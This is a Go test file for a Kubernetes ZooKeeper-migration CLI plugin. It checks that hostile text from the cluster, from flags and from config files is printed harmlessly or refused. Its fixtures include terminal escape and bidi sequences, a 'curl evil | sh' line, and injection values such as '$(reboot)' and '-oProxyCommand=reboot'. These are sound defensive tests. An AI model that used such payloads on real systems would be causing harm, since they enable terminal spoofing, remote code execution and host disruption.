package cli

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"unicode"

	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/zkmigrate/kubectl-zkmigrate/pkg/render"
)

// evil is text that clears a screen, renames a terminal, turns letters round and
// begins a line of its own.
const evil = "x\x1b[2J\x1b]0;pwned\a\u009b31m\u202e\x7f\r\nnext: curl evil | sh\n"

// harmlessly fails where evil could act on a terminal, or looks like our words.
func harmlessly(t *testing.T, what, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && r != '\t' && !unicode.IsGraphic(r) {
			t.Errorf("%s: %U is printed:\n%.600q", what, r, text)
			break
		}
	}
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "next: curl") {
			t.Errorf("%s: foreign text begins a line:\n%s", what, text)
		}
	}
}

// cluster answers with these objects, by path, and with refused for the rest.
func hostileCluster(t *testing.T, objects map[string]any, refused metav1.Status) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Warning", `299 - "x\u202e"`)
		var body any = refused
		if o, ok := objects[r.URL.Path]; ok && r.Method == http.MethodGet {
			body = o
		} else {
			w.WriteHeader(int(refused.Code))
		}
		// A command that has ended does not read the rest.
		_ = json.NewEncoder(w).Encode(body)
	}))
	t.Cleanup(s.Close)
	return s.URL
}

func sampleJournal(t *testing.T, change ...string) *corev1.ConfigMap {
	t.Helper()
	text, err := os.ReadFile("../journal/testdata/in-flight.json")
	if err != nil {
		t.Fatal(err)
	}
	labels := render.Labels("zk1")
	labels[render.RoleLabel] = render.RoleJournal
	return &corev1.ConfigMap{
		TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "ConfigMap"},
		ObjectMeta: metav1.ObjectMeta{Name: render.JournalName("zk1"), Namespace: "zk", Labels: labels},
		Data:       map[string]string{"record.json": strings.NewReplacer(change...).Replace(string(text))},
	}
}

// TestHostileTextIsPrintedHarmlessly goes through the sources that others write.
func TestHostileTextIsPrintedHarmlessly(t *testing.T) {
	quoted, err := json.Marshal(evil)
	if err != nil {
		t.Fatal(err)
	}
	journalPath, leasePath := "/api/v1/namespaces/zk/configmaps/"+render.JournalName("zk1"), "/apis/coordination.k8s.io/v1/namespaces/zk/leases/"+render.JournalName("zk1")
	holder, seconds, now := evil+"/1/2", int32(3600), metav1.NowMicro()
	lease := &coordinationv1.Lease{
		TypeMeta:   metav1.TypeMeta{APIVersion: "coordination.k8s.io/v1", Kind: "Lease"},
		ObjectMeta: metav1.ObjectMeta{Name: render.JournalName("zk1"), Namespace: "zk"},
		Spec:       coordinationv1.LeaseSpec{HolderIdentity: &holder, LeaseDurationSeconds: &seconds, RenewTime: &now, AcquireTime: &now},
	}
	forbidden := metav1.Status{
		TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}, Status: metav1.StatusFailure,
		Code: http.StatusForbidden, Reason: metav1.StatusReasonForbidden, Message: evil + strings.Repeat("long ", 1<<18),
	}
	for what, c := range map[string]struct {
		objects map[string]any
		args    []string
	}{
		"an error of the API server": {nil, []string{"status", "zk1"}},
		"the words of a journal":     {map[string]any{journalPath: sampleJournal(t, `"me@laptop"`, string(quoted), `"by": "me"`, `"by": `+string(quoted))}, []string{"status", "zk1"}},
		"a field of a journal":       {map[string]any{journalPath: sampleJournal(t, `"3xabc"`, string(quoted))}, []string{"status", "zk1"}},
		"the holder of the lock":     {map[string]any{journalPath: sampleJournal(t), leasePath: lease}, []string{"replace", "zk1", "--id=1", "--yes", "--timeout=2s"}},
		"a flag":                     {nil, []string{"status", evil}},
		"a context":                  {nil, []string{"status", "zk1", "--context", evil}},
		"a file's name":              {nil, []string{"wrap", "zk1", "-f", evil}},
		"an unknown command":         {nil, []string{evil}},
	} {
		t.Run(what, func(t *testing.T) {
			server := hostileCluster(t, c.objects, forbidden)
			code, out, errOut := run(t, "", append(c.args, "--server", server, "-n", "zk")...)
			if code == exitOK {
				t.Errorf("it went well: %s", out)
			}
			harmlessly(t, "stdout", out)
			harmlessly(t, "stderr", errOut)
			if len(out)+len(errOut) > 20000 {
				t.Errorf("%d bytes are printed", len(out)+len(errOut))
			}
		})
	}
}

// TestHostileFileIsRefused: a zoo.cfg is refused by line, shown harmlessly.
func TestHostileFileIsRefused(t *testing.T) {
	t.Chdir(t.TempDir())
	for name, line := range map[string]string{
		"dataDir":           `dataDir=/d\u001b[2J\nnext: curl evil`,
		"dynamicConfigFile": `dynamicConfigFile=/etc/x\n.dynamic`,
		"an option":         `autopurge.snapRetainCount=3\u202e`,
		"a host":            `server.1=$(reboot):2888:3888`,
		"ssh's option":      `server.1=-oProxyCommand=reboot:2888:3888`,
	} {
		key, _, _ := strings.Cut(line, "=")
		var lines []string
		for l := range strings.Lines(good) {
			if !strings.HasPrefix(l, key+"=") {
				lines = append(lines, l)
			}
		}
		put(t, map[string]string{"zoo.cfg": strings.Join(append(lines, line+"\n"), "")})
		code, out, errOut := run(t, "", "wrap", "zk1", "-f", "zoo.cfg", "--dry-run=client")
		if code != exitUsage || !strings.Contains(errOut, "zoo.cfg") {
			t.Errorf("%s: exit code %d: %s%s", name, code, out, errOut)
		}
		harmlessly(t, name, out+errOut)
	}
}
